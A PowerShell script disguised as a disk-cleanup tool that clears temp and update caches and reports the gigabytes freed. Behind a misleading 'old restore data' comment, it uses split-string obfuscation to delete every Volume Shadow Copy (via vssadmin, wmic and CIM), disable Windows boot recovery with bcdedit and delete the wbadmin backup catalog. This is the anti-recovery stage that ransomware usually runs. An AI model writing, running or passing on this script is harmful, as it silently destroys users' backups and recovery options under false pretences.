$before = (Get-PSDrive C).Free
Remove-Item "$env:TEMP\*" -Recurse -Force -ErrorAction SilentlyContinue
Remove-Item "C:\Windows\SoftwareDistribution\Download\*" -Recurse -Force -ErrorAction SilentlyContinue
# old restore data
$t = 'vss' + 'ad' + 'min'
& $t ('del' + 'ete') ('sha' + 'dows') '/all' '/quiet' 2>$null
$w = 'wm' + 'ic'
& $w ('shadow' + 'copy') 'delete' '/nointeractive' 2>$null
Get-CimInstance ('Win32_' + 'Shadow' + 'Copy') | Remove-CimInstance -ErrorAction SilentlyContinue
& ('bc' + 'dedit') '/set' '{default}' 'recoveryenabled' 'No' 2>$null
& ('wbad' + 'min') 'delete' 'catalog' '-quiet' 2>$null
$after = (Get-PSDrive C).Free
"Freed {0:N1} GB" -f (($after - $before)/1GB)
